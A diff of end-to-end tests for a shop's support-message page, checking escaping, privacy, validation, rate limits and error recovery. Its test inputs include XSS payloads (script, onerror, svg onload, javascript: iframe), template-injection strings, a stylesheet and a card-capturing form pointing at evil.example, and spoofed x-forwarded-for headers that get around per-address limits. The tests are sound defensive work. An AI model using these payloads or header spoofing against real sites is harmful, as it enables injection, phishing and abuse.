@@ -1,21 +1,32 @@
 /** Messages to the studio: what is sent, what is refused, and what everybody can read. */
 import { randomUUID } from 'node:crypto';
-import { send, signedUp } from '@storefront/e2e/shopper';
+import { sendPublicly } from '@storefront/e2e/captcha';
+import { signedUp } from '@storefront/e2e/shopper';
 import { expect, test } from '@storefront/e2e/test';
-import { isSent, sendButton, text, write } from './message.ts';
+import { isSent, passCheck, sendButton, text, write } from './message.ts';
 
-test('a message with markup is shown as text, to everyone, without the address', async ({ page, anotherBrowser }) => {
-  const marked = `<script>document.title='owned'</script><img src=x onerror=alert(1)> ${randomUUID()}`;
-  const email = `writer-${randomUUID()}@example.com`;
+test('a message with markup is shown as text, to everyone at once, without the address', async ({
+  page,
+  anotherBrowser,
+}) => {
+  const mark = randomUUID();
+  const marked = `<script>document.title='owned'</script><img src=x onerror=alert(1)> ${mark}`;
+  const email = `writer-${mark}@example.com`;
+  const reader = await (await anotherBrowser()).newPage();
+  const hears = reader.waitForRequest(/\/api\/support-messages\/events$/);
+  await reader.goto('/support');
+  await expect(reader.getByRole('heading', { name: 'Recent Messages' })).toBeVisible();
+  await hears;
+
   await page.goto('/support');
   await write(page, { name: '<b>Mara</b> 🐉', email, subject: '</script><!--', message: marked });
+  await passCheck(page);
   await sendButton(page).click();
   await isSent(page);
   await expect(page.getByText(marked)).toBeVisible();
 
-  const reader = await (await anotherBrowser()).newPage();
-  await reader.goto('/support');
-  const message = reader.getByRole('article').filter({ hasText: marked });
+  // Without a reload.
+  const message = reader.getByRole('article').filter({ hasText: mark });
   await expect(message).toBeVisible();
   await expect(message).toContainText('<b>Mara</b> 🐉');
   await expect(message.getByRole('heading', { name: '</script><!--' })).toBeVisible();
@@ -23,51 +34,65 @@ test('a message with markup is shown as text, to everyone, without the address',
   await expect(reader).toHaveTitle(/^Support · /);
 });
 
-test('a message of a signed-in shopper is not shown to anyone', async ({ page, context }) => {
+test('a message of a signed-in shopper needs no check, and is shown to them alone', async ({
+  page,
+  context,
+  anotherBrowser,
+}) => {
   const { email } = await signedUp(context);
   const subject = `Private ${randomUUID()}`;
   await page.goto('/support');
   await expect(page.getByLabel('Email')).toHaveValue(email);
+  await expect(page.getByRole('group', { name: 'Security check' })).toHaveCount(0);
   await write(page, { subject, message: 'Only for the studio.' });
   await sendButton(page).click();
   await isSent(page);
-  await page.reload();
-  await expect(page.getByRole('heading', { name: 'Recent Messages' })).toBeVisible();
-  await expect(page.getByText(subject)).toHaveCount(0);
+  const own = page.getByRole('region', { name: 'Your Messages' });
+  await expect(own.getByRole('heading', { name: subject })).toBeVisible();
+  await expect(page.getByRole('heading', { name: subject })).toHaveCount(1);
+  const other = await anotherBrowser();
+  const list = await (await other.newPage()).goto('/support');
+  expect(await list?.text()).not.toContain(subject);
 });
 
 test('a message that lacks something is not sent, and says so', async ({ page }) => {
   await page.goto('/support');
   await write(page, { name: 'Mara', email: 'mara@example.com', subject: '   ', message: 'Are there griffins?' });
+  await passCheck(page);
   await sendButton(page).click();
   await expect(page.getByText('All fields are required!')).toBeVisible();
   await expect(page.getByLabel('Subject')).toBeFocused();
   await expect(text(page)).toHaveValue('Are there griffins?');
 });
 
-test('whoever writes too many messages is told to wait, and the draft stays', async ({
+test('whoever writes too many messages is told to wait, and the draft outlives leaving the page', async ({
   page,
   context,
   expectComplaints,
 }) => {
   expectComplaints(/429/);
   const message = { name: 'Mara', email: 'mara@example.com', subject: 'Again', message: 'And again.' };
-  for (let count = 0; count < 5; count++) await send(context, 'POST', '/api/support-messages', message);
+  for (let count = 0; count < 5; count++) await sendPublicly(context, message);
   await page.goto('/support');
   await write(page, { ...message, message: 'One too many.' });
+  await passCheck(page);
   await sendButton(page).click();
   await expect(page.getByText('Too many requests. Please try again later.')).toBeVisible();
+  await expect(text(page)).toHaveValue('One too many.');
+  await page.reload();
   await expect(text(page)).toHaveValue('One too many.');
 });
 
 test('when the recent messages cannot be loaded, trying again shows them', async ({ page, expectComplaints }) => {
   expectComplaints(/500/);
   const subject = `Griffins ${randomUUID()}`;
-  const message = { name: 'Mara', email: 'mara@example.com', subject, message: 'Are there any?' };
+  // What others write meanwhile would have the page try again by itself.
+  await page.addInitScript(() => Reflect.deleteProperty(globalThis, 'EventSource'));
   await page.goto('/support');
   const recent = '**/api/support-messages/recent';
   await page.route(recent, (route) => route.fulfill({ status: 500, json: { code: 'internal_error', detail: '' } }));
-  await write(page, message);
+  await write(page, { name: 'Mara', email: 'mara@example.com', subject, message: 'Are there any?' });
+  await passCheck(page);
   await sendButton(page).click();
   await isSent(page);
   const tryAgain = page.getByRole('button', { name: 'Try again' });
@@ -75,4 +100,36 @@ test('when the recent messages cannot be loaded, trying again shows them', async
   await page.unroute(recent);
   await tryAgain.click();
   await expect(page.getByRole('heading', { name: subject })).toBeVisible();
+});
+
+const corpus = [
+  `<svg onload="document.title='owned'"><iframe src="javascript:document.title='owned'">`,
+  `"><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>`,
+  `{{constructor.constructor('document.title=1')()}} \${7*7} <%= 7*7 %>`,
+  `</textarea><form action=//evil.example><input name=card></form>`,
+  `\u202Egnp.exe \u2066\u2067 \u0007\u001B[31mred Z${'\u0301'.repeat(200)}`,
+  `Win now: https://evil.example/x www.evil.example evil.example/y mail me@evil.example or +1 555 123 4567 890`,
+  'W'.repeat(4000),
+];
+
+test('whatever strangers send neither runs nor leads away nor breaks the page', async ({ page, anotherBrowser }) => {
+  const subject = `Corpus ${randomUUID().slice(0, 8)}`;
+  const senders = await Promise.all(corpus.map(async () => await anotherBrowser()));
+  for (const [index, message] of corpus.entries()) {
+    const sender = senders[index];
+    // Each from an address of its own.
+    await sender?.setExtraHTTPHeaders({ 'x-forwarded-for': `10.66.${index}.${Math.floor(Math.random() * 250)}` });
+    if (sender) await sendPublicly(sender, { name: 'Ann', email: 'ann@example.com', subject, message });
+  }
+  await page.goto('/support');
+  const messages = page.getByRole('article').filter({ hasText: subject });
+  await expect(messages).toHaveCount(corpus.length);
+  await expect(page).toHaveTitle(/^Support · /);
+  expect(await messages.locator('a, img, svg, iframe, style, script, form, input').count()).toBe(0);
+  for (const gone of ['https://evil.example', 'www.evil.example', 'me@evil.example', '555 123']) {
+    await expect(messages.getByText(gone)).toHaveCount(0);
+  }
+  const width = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
+  expect(width[0]).toBeLessThanOrEqual(width[1] ?? 0);
+  expect((await messages.first().boundingBox())?.height).toBeLessThan(600);
 });
